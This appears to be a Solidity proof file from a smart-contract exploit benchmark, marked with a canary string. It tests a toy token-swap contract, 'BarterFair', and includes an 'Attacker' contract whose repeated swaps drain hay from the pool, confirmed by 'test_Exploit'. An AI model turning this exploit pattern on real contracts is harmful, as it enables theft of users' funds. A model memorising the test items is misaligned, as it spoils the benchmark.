// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-1fafdf05-f930-42a3-831a-bcb0294a141b

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./BarterFair.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Good is ERC20 {
    constructor(string memory name_) ERC20(name_, "GOOD") {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// Brings hay twice, and then the oats back.
contract Attacker {
    function round(BarterFair fair, uint256 id) external {
        IERC20 oats = fair.oats();
        oats.approve(address(fair), type(uint256).max);
        fair.hay().approve(address(fair), type(uint256).max);
        fair.barter(id, false, 10_000e18, 0, block.timestamp);
        fair.barter(id, false, 20_000e18, 0, block.timestamp);
        for (uint256 mine = oats.balanceOf(address(this)); mine > 0; mine = oats.balanceOf(address(this))) {
            (, uint256 there, ) = fair.stalls(id);
            fair.barter(id, true, mine < there ? mine : there, 0, block.timestamp);
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);
    address private constant CORA = address(0xC02A);
    uint256 private constant START = 1_774_600_000;

    Good public oats;
    Good public hay;
    BarterFair public fair;
    Attacker public carter;

    function setUp() public {
        vm.warp(START);
        oats = new Good("Oats");
        hay = new Good("Hay");
        fair = new BarterFair(oats, hay);
        _endow(ANNA);
        _endow(BELA);
        _endow(CORA);
        vm.prank(ANNA);
        fair.open(10_000e18, 10_000e18);
        carter = new Attacker();
        hay.transfer(address(carter), 30_000e18);
    }

    function _endow(address who) private {
        oats.transfer(who, 20_000e18);
        hay.transfer(who, 20_000e18);
        vm.startPrank(who);
        oats.approve(address(fair), type(uint256).max);
        hay.approve(address(fair), type(uint256).max);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.prank(BELA);
        uint256 taken = fair.barter(0, true, 10_000e18, 4_900e18, START);
        require(taken > 4_992e18 && taken < 4_993e18, "almost half of the hay");
        require(oats.balanceOf(BELA) == 10_000e18 && hay.balanceOf(BELA) == 20_000e18 + taken, "bartered");
        vm.prank(CORA);
        require(fair.open(2_000e18, 2_000e18) == 1, "the second stall");
        vm.prank(BELA);
        uint256 back = fair.barter(1, false, 500e18, 390e18, START + 1);
        require(back > 398e18 && back < 400e18, "a fifth of the oats, less what is kept");
        require(oats.balanceOf(BELA) == 10_000e18 + back, "bartered again");
        vm.prank(CORA);
        fair.shut(1);
        require(oats.balanceOf(CORA) == 20_000e18 - back && hay.balanceOf(CORA) == 20_500e18, "home");
        vm.prank(ANNA);
        fair.shut(0);
        require(hay.balanceOf(ANNA) == 20_000e18 - taken && oats.balanceOf(ANNA) == 30_000e18, "home too");
        require(oats.balanceOf(address(fair)) == 0 && hay.balanceOf(address(fair)) == 0, "nothing is left");
    }

    function test_RefusesStalls() public {
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Stalls.Empty.selector));
        fair.open(0, 1e18);
        vm.expectRevert(abi.encodeWithSelector(Stalls.Empty.selector));
        fair.open(1e18, 0);
        vm.expectRevert(abi.encodeWithSelector(Stalls.NotTheKeeper.selector, 0, BELA));
        fair.shut(0);
        vm.stopPrank();
    }

    function test_RefusesBarter() public {
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(BarterFair.TooMuch.selector, 10_001e18, 10_000e18));
        fair.barter(0, true, 10_001e18, 0, START);
        vm.expectRevert(abi.encodeWithSelector(BarterFair.TooLittle.selector, 0, 0));
        fair.barter(0, true, 1, 0, START);
        uint256 taken = fair.quote(0, true, 100e18);
        vm.expectRevert(abi.encodeWithSelector(BarterFair.TooLittle.selector, taken, taken + 1));
        fair.barter(0, true, 100e18, taken + 1, START);
        vm.warp(START + 1);
        vm.expectRevert(abi.encodeWithSelector(BarterFair.TooLate.selector, START));
        fair.barter(0, true, 100e18, taken, START);
        vm.stopPrank();
    }

    function test_RefusesShutStalls() public {
        vm.prank(ANNA);
        fair.shut(0);
        vm.prank(BELA);
        vm.expectRevert(abi.encodeWithSelector(BarterFair.TooMuch.selector, 1e18, 0));
        fair.barter(0, true, 1e18, 0, START);
    }

    function exploit() public {
        carter.round(fair, 0);
    }

    function test_Exploit() public {
        exploit();
        require(hay.balanceOf(address(carter)) >= 35_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(fair);
    }

    function attacker() public view returns (address) {
        return address(carter);
    }
}
